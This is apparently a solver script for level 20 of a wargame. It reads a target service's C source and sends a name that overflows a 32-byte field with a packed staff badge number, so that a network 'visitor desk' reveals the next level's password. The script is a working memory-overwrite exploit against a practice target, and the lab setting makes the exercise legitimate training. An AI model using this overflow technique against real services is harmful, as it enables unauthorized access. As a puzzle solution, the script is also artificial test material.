"""Level 20: the visitor desk on public port 5842 copies a name of up to sizeof(struct visitor)
bytes into its 32-byte name field, so what follows the 32nd byte is the badge number. Read the
sizes and the staff badge from ~/visitor-desk.c, sign in with a name that long followed by the
badge (little-endian), and the desk hands over the password for level21."""
import os
import re
import socket
import struct

from wg_solver import HOST, answer, login, run

PORT = 5842 + int(os.environ.get("WG_PORT_OFFSET", "0"))

with login() as c:
    source = run(c, "cat visitor-desk.c")
name_size = int(re.search(r"char name\[(\d+)\];", source).group(1))
badge = int(re.search(r"#define STAFF_BADGE (0x[0-9a-fA-F]+)u", source).group(1), 16)

with socket.create_connection((HOST, PORT), timeout=20) as s:
    s.sendall(b"A" * name_size + struct.pack("<I", badge) + b"\n")
    reply = b""
    while chunk := s.recv(4096):
        reply += chunk
m = re.search(rb"The password for level21 is (\w+)", reply)
if not m:
    raise SystemExit(f"the desk kept it: {reply[-300:]!r}")
answer(m.group(1).decode())
